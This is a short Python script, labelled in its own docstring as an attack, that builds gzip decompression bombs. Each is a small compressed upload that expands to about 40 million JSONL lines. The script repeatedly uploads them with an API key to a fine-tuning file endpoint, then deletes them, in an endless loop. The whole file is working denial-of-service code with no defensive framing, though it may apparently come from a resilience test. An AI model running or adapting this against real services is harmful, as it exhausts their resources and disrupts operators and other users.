"""The attack with files that unpack into 40 million lines."""

from __future__ import annotations

import asyncio
import gzip

import aiohttp

_LINES = b'{"messages":[]}\n' * 1_000_000


async def attack(base_url: str, key: str) -> None:
    """Upload three bombs of 3.7 MB, delete them, and begin again, until cancelled."""
    bomb = await asyncio.to_thread(gzip.compress, _LINES, 1) * 40
    headers = {"authorization": f"Bearer {key}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        while True:
            for file_id in [await _upload(session, base_url, bomb) for _ in range(3)]:
                async with session.delete(f"{base_url}/files/{file_id}"):
                    await asyncio.sleep(5)


async def _upload(session: aiohttp.ClientSession, base_url: str, content: bytes) -> str:
    form = aiohttp.FormData({"purpose": "fine-tune"})
    form.add_field("file", content, filename="bomb.jsonl.gz")
    async with session.post(f"{base_url}/files", data=form) as answer:
        return (await answer.json())["id"]
